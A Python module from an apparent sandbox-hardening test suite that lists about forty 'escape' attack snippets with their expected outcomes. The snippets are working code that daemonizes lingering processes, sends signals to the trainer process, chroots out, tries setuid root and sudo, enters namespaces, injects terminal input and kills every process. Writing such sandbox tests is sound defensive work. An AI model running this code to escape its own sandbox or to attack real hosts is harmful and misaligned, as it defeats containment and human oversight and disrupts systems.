"""Attacks that try to get out: processes that live on, signals, privileges, other ways in."""

from voltx_core.judge.attacks.attack import Attack, Sign

_KILLS = "it ends every process of its user"

_CODES: dict[str, tuple[Sign, str]] = {
    "leave a child": (
        "survivor",
        """
def attack(place):
    if os.fork() == 0:
        linger()
""",
    ),
    "leave a grandchild in its own session": (
        "survivor",
        """
def attack(place):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(64):
                try: os.close(fd)
                except OSError: pass
            linger()
""",
    ),
    "leave a program": (
        "survivor",
        """
def attack(place):
    import subprocess
    null = subprocess.DEVNULL
    subprocess.Popen(["/bin/sleep", "20"], stdin=null, stdout=null, stderr=null,
                     start_new_session=True)
""",
    ),
    "leave a child that shares its memory": (
        "survivor",
        """
def attack(place):
    import mmap
    stack = mmap.mmap(-1, 65536)
    at = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + 65536 - 64
    sleep = ctypes.cast(_libc.sleep, ctypes.c_void_p)
    os.closerange(0, 3)
    if _libc.clone(sleep, ctypes.c_void_p(at), 0x100 | 17, ctypes.c_void_p(20)) < 0: raise OSError
    os._exit(0)
""",
    ),
    "turn into another program": (
        "survivor",
        """
def attack(place):
    if os.fork() == 0:
        os.closerange(0, 64)
        os.setsid()
        os.execv("/bin/sleep", ["sleep", "20"])
""",
    ),
    "be nobody's child": (
        "survivor",
        """
def attack(place):
    tries(lambda: _libc.prctl(1, 0, 0, 0, 0), lambda: os.setsid())
    pid = syscall(place, "clone", 0x8000 | 17, 0, 0, 0, 0)
    if pid == 0:
        linger()
""",
    ),
    "signal the trainer": (
        "signalled",
        """
def attack(place):
    import signal
    return tries(lambda: os.kill(place["pid"], signal.SIGUSR1), lambda: signal.raise_signal(0))
""",
    ),
    "signal a thread of the trainer": (
        "signalled",
        """
def attack(place):
    return tries(lambda: syscall(place, "tgkill", place["pid"], place["pid"], 10),
                 lambda: syscall(place, "tkill", place["pid"], 10))
""",
    ),
    "queue a signal for the trainer": (
        "signalled",
        """
def attack(place):
    import struct
    info = ctypes.create_string_buffer(struct.pack("<iii", 10, 0, -1) + bytes(116))
    return tries(lambda: syscall(place, "rt_sigqueueinfo", place["pid"], 10, info),
        lambda: syscall(place, "rt_tgsigqueueinfo", place["pid"], place["pid"], 10, info))
""",
    ),
    "signal the trainer through a descriptor": (
        "signalled",
        """
def attack(place):
    pidfd = syscall(place, "pidfd_open", place["pid"], 0)
    syscall(place, "pidfd_send_signal", pidfd, 10, None, 0)
""",
    ),
    "have the kernel signal the trainer": (
        "signalled",
        """
def attack(place):
    import fcntl, struct
    read, write = os.pipe()
    owner = struct.pack("<ii", 1, place["pid"])
    tries(lambda: fcntl.fcntl(read, fcntl.F_SETOWN, place["pid"]),
          lambda: fcntl.fcntl(read, 15, owner),
          lambda: fcntl.ioctl(read, 0x8901, struct.pack("<i", place["pid"])))
    fcntl.fcntl(read, 10, 10)
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b"x")
    time.sleep(0.05)
""",
    ),
    "lend the trainer a timer": (
        "signalled",
        """
def attack(place):
    import struct
    event = ctypes.create_string_buffer(struct.pack("<Qiii", 0, 10, 4, place["pid"]) + bytes(44))
    number = ctypes.c_int()
    if _libc.syscall(222, 1, event, ctypes.byref(number)) < 0: raise OSError
    when = ctypes.create_string_buffer(struct.pack("<4q", 0, 0, 0, 1000000))
    _libc.syscall(223, number, 0, when, None)
    time.sleep(0.05)
""",
    ),
    "signal its parent": (
        "judge",
        """
def attack(place):
    return tries(*[lambda n=n: os.kill(os.getppid(), n) for n in (19, 9)])
""",
    ),
    "change the trainer's limits": (
        "changed",
        """
def attack(place):
    import resource
    resource.prlimit(place["pid"], resource.RLIMIT_CORE, (0, 0))
    resource.prlimit(place["pid"], resource.RLIMIT_NOFILE, (64, 64))
""",
    ),
    "change the trainer's priority": (
        "changed",
        """
def attack(place):
    return tries(lambda: os.setpriority(os.PRIO_PROCESS, place["pid"], 11),
                 lambda: os.setpriority(os.PRIO_USER, os.getuid(), 11))
""",
    ),
    "change the trainer's scheduling": (
        "changed",
        """
def attack(place):
    return tries(lambda: os.sched_setscheduler(place["pid"], os.SCHED_BATCH, os.sched_param(0)),
                 lambda: os.sched_setaffinity(place["pid"], {min(os.sched_getaffinity(0))}))
""",
    ),
    "change who is ended when memory is short": (
        "changed",
        """
def attack(place):
    open(f"/proc/{place['pid']}/oom_score_adj", "w").write("777")
""",
    ),
    "mount over a folder": (
        "changed",
        """
def attack(place):
    target = ctypes.c_char_p(place["public"].encode())
    syscall(place, "mount", b"none", target, b"tmpfs", 0, None)
""",
    ),
    "mount in a user namespace": (
        "secret",
        """
def attack(place):
    syscall(place, "unshare", 0x10020000)
    syscall(place, "mount", b"none", b"/mnt", b"tmpfs", 0, None)
    return slurp(place["private"] + "/secret"), slurp(place["public"] + "/secret")
""",
    ),
    "enter the trainer's namespaces": (
        "secret",
        """
def attack(place):
    pidfd = syscall(place, "pidfd_open", place["pid"], 0)
    tries(lambda: syscall(place, "setns", pidfd, 0x6c020000),
          lambda: syscall(place, "setns", pidfd, 0x00020000))
    return slurp(place["public"] + "/secret")
""",
    ),
    "change the root": (
        "secret",
        """
def attack(place):
    tries(lambda: os.mkdir("deep"), lambda: os.chroot("deep"))
    for _ in range(64): tries(lambda: os.chdir(".."))
    tries(lambda: os.chroot("."))
    return slurp(place["public"] + "/secret")
""",
    ),
    "become root": (
        "secret",
        """
def attack(place):
    tries(lambda: os.setgroups([0]), lambda: os.setresgid(0, 0, 0), lambda: os.setresuid(0, 0, 0),
          lambda: os.setuid(0), lambda: syscall(place, "setfsuid", 0))
    return slurp(place["private"] + "/secret")
""",
    ),
    "become the trainer's user": (
        "secret",
        """
def attack(place):
    tries(lambda: os.setresgid(*[place["gid"]] * 3), lambda: os.setresuid(*[place["uid"]] * 3))
    return slurp(place["private"] + "/secret")
""",
    ),
    "start a program that may become root": (
        "secret",
        """
def attack(place):
    import subprocess
    command = f"cat {place['private']}/secret"
    return tries(*[lambda c=c: subprocess.run(c, capture_output=True, timeout=2).stdout
        for c in (["su", "-c", command], ["sudo", "-n", "sh", "-c", command],
                  ["mount", "--bind", place["private"], "/mnt"], ["sh", "-c", command])])
""",
    ),
    "rename the machine": (
        "changed",
        """
def attack(place):
    name = place["mark"][:20].encode()
    syscall(place, "sethostname", ctypes.c_char_p(name), len(name))
""",
    ),
    "run a program from memory": (
        "changed",
        """
def attack(place):
    fd = os.memfd_create("program", 0)
    os.write(fd, b"#!/bin/sh\\necho x >> " + place["public"].encode() + b"/victim\\n")
    arguments = (ctypes.c_char_p * 2)(b"program", None)
    empty = (ctypes.c_char_p * 1)(None)
    tries(lambda: os.execve(f"/proc/self/fd/{fd}", ["program"], {}),
          lambda: os.execve(fd, ["program"], {}))
    syscall(place, "execveat", fd, b"", arguments, empty, 0x1000)
""",
    ),
    "run a program from scratch": (
        "changed",
        """
def attack(place):
    fd = os.open("program", os.O_CREAT | os.O_WRONLY, 0o755)
    os.write(fd, b"#!/bin/sh\\necho x >> " + place["public"].encode() + b"/victim\\n")
    os.close(fd)
    tries(lambda: os.system("./program"), lambda: os.posix_spawn("./program", ["p"], {}))
    os.execv("./program", ["program"])
""",
    ),
    "type into the terminal": (
        "changed",
        """
def attack(place):
    import fcntl
    for path in ("/dev/tty", "/dev/ptmx", place["terminal"]):
        def typed(path=path):
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
            tries(lambda: fcntl.ioctl(fd, 0x540e, 1))
            os.write(fd, b"written")
            for letter in b"echo typed\\n": fcntl.ioctl(fd, 0x5412, bytes([letter]))
        tries(typed)
""",
    ),
    "call with the other table of numbers": (
        "contact",
        """
def attack(place):
    import struct
    x32 = 0x40000000
    fd = _libc.syscall(x32 | 41, 2, 1, 0)
    address = struct.pack("<H", 2) + struct.pack(">H", place["tcp"]) + bytes([127, 0, 0, 1])
    _libc.syscall(x32 | 42, fd, address + bytes(8), 16)
""",
    ),
    "call the 32-bit way": (
        "changed",
        """
def attack(place):
    import mmap
    memory = mmap.mmap(-1, 8192, flags=0x62, prot=7)
    base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    memory.seek(4096)
    memory.write((place["public"] + "/new").encode() + b"\\0")
    memory.seek(0)
    # push rbx; mov eax, 8 (creat); mov ebx, path; mov ecx, 0600; int 0x80; pop rbx; ret
    memory.write(b"\\x53\\xb8\\x08\\0\\0\\0\\xbb" + (base + 4096).to_bytes(4, "little")
                 + b"\\xb9\\x80\\x01\\0\\0\\xcd\\x80\\x5b\\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(base)()
""",
    ),
    "start a process by the newest call": (
        "survivor",
        """
def attack(place):
    import struct
    arguments = ctypes.create_string_buffer(struct.pack("<8Q", 0, 0, 0, 0, 17, 0, 0, 0) + bytes(24))
    if syscall(place, "clone3", arguments, 88) == 0:
        linger()
""",
    ),
    "load a program into the kernel": (
        "judge",
        """
def attack(place):
    import struct
    # a cgroup or socket filter needs a socket or rights; a filter that kills is tried on all
    instructions = ctypes.create_string_buffer(struct.pack("<BBhi", 0xb7, 0, 0, 0)
                                               + struct.pack("<BBhi", 0x95, 0, 0, 0))
    licence = ctypes.create_string_buffer(b"GPL")
    attributes = struct.pack("<IIQQ", 1, 2, ctypes.addressof(instructions),
                             ctypes.addressof(licence)) + bytes(96)
    fd = syscall(place, "bpf", 5, ctypes.c_char_p(attributes), len(attributes))
    for _ in range(64): syscall(place, "kill", os.getppid(), 19)
""",
    ),
    "stop everyone": ("judge", "def attack(place): os.kill(-1, 19)"),
    "end everyone": ("judge", "def attack(place): os.kill(-1, 9)"),
    "end its group": ("judge", "def attack(place): os.killpg(0, 9)"),
    "end the first processes": (
        "judge",
        """
def attack(place):
    return tries(*[lambda p=p: os.kill(p, 9) for p in (1, 2, os.getppid(), os.getpid() - 1)])
""",
    ),
    "take the place of the judge": (
        "judge",
        """
def attack(place):
    def take(number):
        try: fd = os.open(f"/proc/{number}/fd", 0)
        except OSError: return
        for name in os.listdir(fd): os.write(os.open(name, os.O_WRONLY, dir_fd=fd), b"f+\\0")
    return tries(lambda: take(os.getppid()), lambda: take(1))
""",
    ),
}
_UNBOUNDED = {
    "stop everyone": _KILLS,
    "end everyone": _KILLS,
    "end its group": _KILLS,
    "end the first processes": _KILLS,
    "mount over a folder": "it would hide the canaries from the attacks that follow",
    "change the trainer's limits": "a limit that was lowered cannot be put back",
}
_X86 = ("call with the other table of numbers", "call the 32-bit way", "lend the trainer a timer")

ATTACKS = tuple(
    Attack(
        name=name,
        group="escape",
        code=code,
        sign=sign,
        unbounded=_UNBOUNDED.get(name, ""),
        needs=("x86_64",) if name in _X86 else (),
    )
    for name, (sign, code) in _CODES.items()
)
